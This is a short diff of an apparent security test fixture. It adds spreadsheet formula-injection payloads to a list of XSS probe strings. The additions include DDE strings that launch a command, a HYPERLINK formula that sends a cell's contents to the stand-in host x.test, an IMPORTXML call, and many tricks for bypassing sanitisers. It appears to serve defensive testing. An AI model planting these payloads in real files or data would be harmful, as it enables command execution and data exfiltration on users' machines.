@@ -20,3 +20,8 @@ SCRIPTS = (
     "<form action=javascript:window.ran=1><button>", "<meta http-equiv=refresh content=0;url=//x.test>", "<base href=//x.test>",
     "<video><source onerror=window.ran=1>", "`${window.ran=1}`", "%3Cscript%3Ewindow.ran=1%3C/script%3E", "<marquee onstart=window.ran=1>",
 )  # fmt: skip
+# What a spreadsheet would compute, or take for the end of a cell and then compute.
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test?d=\"&A1,\"x\")",
+    "=IMPORTXML(\"http://x.test\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u200b\ufeff=1+1", "|calc", "%0A=1+1", "＝1+1", "{=1+1}", "mug;=1+1",
+)  # fmt: skip
